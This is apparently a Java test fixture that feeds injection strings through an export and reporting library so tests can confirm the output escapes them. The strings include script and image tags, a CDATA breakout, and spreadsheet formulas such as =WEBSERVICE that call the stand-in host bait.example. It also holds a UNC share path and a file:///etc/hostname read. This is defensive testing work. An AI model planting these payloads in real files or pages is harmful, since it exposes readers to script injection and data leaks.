package org.concordat.exchange.formats;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.concordat.api.core.Core;
import org.concordat.api.fact.NodeId;
import org.concordat.api.fact.Source;
import org.concordat.api.network.Facts;
import org.concordat.api.network.Node;
import org.concordat.api.report.Block;
import org.concordat.api.view.Box;
import org.concordat.api.view.View;
import org.concordat.api.view.ViewId;
import org.concordat.core.document.NetworkSnapshot;
import org.concordat.exchange.export.Export;
import org.concordat.exchange.export.Format;
import org.concordat.exchange.export.Profile;
import org.concordat.exchange.graph.NastyNetwork;
import org.concordat.exchange.graph.Written;
import org.concordat.exchange.report.Report;

/** A network whose names, notes and sources a careless program would take for addresses, markup or formulas. */
final class Bait {

    static final String HOST = "bait.example";

    private static final List<String> TEXTS = List.of(
            "http://bait.example/x",
            "<img src=\"http://bait.example/x\">",
            "<image href='http://bait.example/x'/>",
            "<script src=\"http://bait.example/x\"></script>",
            "]]><script src=\"http://bait.example/x\"></script>",
            "</script><img src=http://bait.example/x>",
            "</style><link rel=stylesheet href=http://bait.example/x>",
            "url(http://bait.example/x)",
            "=WEBSERVICE(\"http://bait.example/x\")",
            "=HYPERLINK(\"http://bait.example/x\",\"x\")",
            "\\\\bait.example\\share",
            "file:///etc/hostname");

    private Bait() {}

    static Export export() {
        var nodes = new LinkedHashMap<NodeId, Node>();
        var boxes = new HashMap<NodeId, Box>();
        for (int i = 0; i < TEXTS.size(); i++) {
            var text = TEXTS.get(i);
            var facts = Facts.of(NastyNetwork.NAME, text)
                    .with(NastyNetwork.NOTE, text)
                    .with(Core.SOURCES, List.of(new Source(text, text, text, "")));
            var id = new NodeId("bait-" + i);
            nodes.put(id, new Node(id, NastyNetwork.PRACTICE, facts));
            boxes.put(id, Box.of(0, 100.0 * i, 200, 60));
        }
        var view = new View(new ViewId("v"), TEXTS.get(1), boxes, Map.of());
        return NastyNetwork.export(NetworkSnapshot.of(nodes.values(), List.of()), view);
    }

    /** The files of an export in a format, by their names. */
    static Map<String, byte[]> exported(Format format, Profile profile) throws IOException {
        return Written.of(export(), format, profile).parts();
    }

    static byte[] reported(String id) throws IOException {
        var export = export();
        var table =
                new Block.Table(TEXTS.get(1), TEXTS.subList(0, 2), List.of(TEXTS.subList(2, 4), TEXTS.subList(8, 10)));
        var flows = new Block.Flows(
                TEXTS.get(2),
                TEXTS.get(3),
                List.of(
                        new Block.Stop("a", TEXTS.get(1), TEXTS.get(4)),
                        new Block.Stop("b", TEXTS.get(5), TEXTS.get(6))),
                List.of(new Block.Flow("a", "b", null, TEXTS.get(1))));
        var section = new Report.Section(
                "bait",
                TEXTS.get(1),
                List.of(new Block.Points(TEXTS), new Block.Paragraph(TEXTS.get(3)), table, flows));
        var view = new Report.Drawn(export, export.views().get(0));
        var out = new ByteArrayOutputStream();
        ReportFormats.of(id).orElseThrow().write(new Report(export, List.of(view, section), List.of()), out);
        return out.toByteArray();
    }
}
